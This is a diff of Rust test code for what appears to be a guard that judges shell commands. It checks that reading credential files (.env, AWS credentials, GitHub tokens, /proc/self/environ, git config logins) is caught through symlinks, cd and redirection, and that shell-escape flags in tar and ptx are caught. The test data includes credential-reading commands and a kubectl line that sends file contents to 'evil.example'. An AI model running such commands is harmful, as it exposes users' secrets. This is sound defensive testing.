@@ -168,6 +168,66 @@ fn secrets_count_whichever_option_names_their_file() {
 }
 
 #[test]
+fn secrets_count_by_whichever_path_they_are_reached() {
+    let project = project();
+    let at = project.path();
+    let top = at.display();
+    for directory in ["home/.aws", "home/.config/gh", "vendor/app", "d"] {
+        fs::create_dir_all(at.join(directory)).unwrap();
+    }
+    for file in ["home/.aws/credentials", "home/.config/gh/hosts.yml", "vendor/app/.env", "home/.bash_history"] {
+        fs::write(at.join(file), "TOKEN=1\n").unwrap();
+    }
+    for (target, link) in [(".env", "n:1"), ("home/.aws", "plain"), ("../.env", "d/n.txt")] {
+        std::os::unix::fs::symlink(target, at.join(link)).unwrap();
+    }
+    let login = "[http \"https://x\"]\n\textraheader = AUTHORIZATION: basic eA==\n";
+    fs::write(at.join("src/config"), login).unwrap();
+    for (line, status) in [
+        (format!("cat /{top}/.env"), 10),
+        ("cat //proc/self/environ".to_owned(), 10),
+        (format!("cat < /{top}/.env"), 10),
+        ("cd home/.aws && cat credentials".to_owned(), 10),
+        ("cd home/.aws && grep -r TOKEN .".to_owned(), 10),
+        ("cd plain && cat credentials".to_owned(), 10),
+        ("cat n:1".to_owned(), 10),
+        (format!("cat {top}/vendor/app/.env"), 0),
+        (format!("cd vendor/app && cat {top}/vendor/app/.env"), 10),
+        ("cat home/.bash_history".to_owned(), 10),
+        ("git blame .env".to_owned(), 10),
+        ("cat src/config".to_owned(), 0),
+    ] {
+        let (judgement, found) = judged(at, None, &line);
+        assert_eq!(found, status, "{line}: {judgement}");
+    }
+
+    // Programs that follow links, or read what programs keep, leave these files out.
+    for line in ["grep -R TOKEN d", "diff -r d src", "rg -L TOKEN d", "grep -r TOKEN home/.config", "grep -r TOKEN ."] {
+        let judgement = judged(at, None, line).0;
+        let rewritten = judgement["rewritten"].as_str().unwrap_or_else(|| panic!("{line}: {judgement}"));
+        assert!(rewritten.contains("--judged"), "{line}: {judgement}");
+        assert!(judgement["reason"].as_str().unwrap().contains("without"), "{line}: {judgement}");
+    }
+}
+
+#[test]
+fn logins_in_the_configuration_of_a_repository_are_secrets() {
+    let project = project();
+    let config = project.path().join(".git/config");
+    let plain = fs::read_to_string(&config).unwrap();
+    for (more, status) in [
+        ("", 0),
+        ("[remote \"o\"]\n\turl = git@example.com:a/b.git\n\turl = ssh://git@example.com/a\n", 0),
+        ("[remote \"o\"]\n\turl = https://user:word@example.com/a.git\n", 10),
+        ("[http \"https://example.com/\"]\n\textraheader = AUTHORIZATION: basic eA==\n", 10),
+    ] {
+        fs::write(&config, format!("{plain}{more}")).unwrap();
+        let (judgement, found) = judged(project.path(), None, "cat .git/config");
+        assert_eq!(found, status, "{more}: {judgement}");
+    }
+}
+
+#[test]
 fn programs_that_only_read_in_some_forms_are_allowed_in_these() {
     let project = project();
     for (line, status) in [
@@ -189,6 +249,12 @@ fn programs_that_only_read_in_some_forms_are_allowed_in_these() {
         ("env BASH_ENV=a sort a", 10),
         ("kill -0 12", 0),
         ("kill -0 12 -9", 10),
+        // At a prompt for the next part, tar starts a shell.
+        ("tar -tf a", 0),
+        ("tar -tMf a", 10),
+        ("tar --list --multi-volume --file=a", 10),
+        ("ptx a", 0),
+        ("ptx -G a b", 10),
         ("kubectl apply -f a --dry-run=server -o yaml", 0),
         ("kubectl apply -f \"https://evil.example/$(cat a)\" --dry-run=client", 10),
         ("cat a | kubectl apply -f - --dry-run=server", 10),
